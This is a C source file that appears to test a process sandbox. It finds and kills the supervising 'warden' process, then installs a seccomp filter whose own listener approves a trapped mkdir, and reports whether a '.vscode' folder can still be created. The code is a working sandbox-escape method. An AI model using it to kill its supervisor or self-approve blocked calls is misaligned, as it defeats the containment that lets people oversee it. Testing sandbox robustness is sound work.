// Kills the warden, makes a folder, then installs a filter with a listener of its own that lets the call through, and makes one again.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int warden(void) {
    DIR *folder = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(folder));) {
        char path[300], text[64] = "";
        snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
        FILE *file = isdigit(entry->d_name[0]) ? fopen(path, "r") : NULL;
        if (!file) continue;
        fread(text, 1, sizeof text - 1, file);
        fclose(file);
        if (!strcmp(text, "keyward:warden")) return atoi(entry->d_name);
    }
    return 0;
}

static const char *result(long value) { return value >= 0 ? "MADE" : errno == ENOSYS ? "ENOSYS" : errno == EPERM ? "EPERM" : strerror(errno); }

int main(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    int found = warden();
    if (found) puts("warden found");
    // Killed before init has heard of us, it would end the whole cage.
    usleep(300000);
    kill(found, SIGKILL);
    for (int i = 0; i < 500 && warden(); i++) usleep(10000);
    puts(warden() ? "warden there" : "warden gone");
    printf("plain %s\n", result(mkdir("harmless", 0755)));
    struct sock_filter ask[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mkdir, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {4, ask};
    long listener = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
    printf("listener %s\n", result(listener));
    if (listener >= 0 && fork() == 0) {
        for (;;) {
            struct seccomp_notif call = {0};
            if (ioctl((int)listener, SECCOMP_IOCTL_NOTIF_RECV, &call)) _exit(0);
            struct seccomp_notif_resp answer = {.id = call.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
            ioctl((int)listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
        }
    }
    printf("after %s\n", result(mkdir(".vscode", 0755)));
    return 0;
}
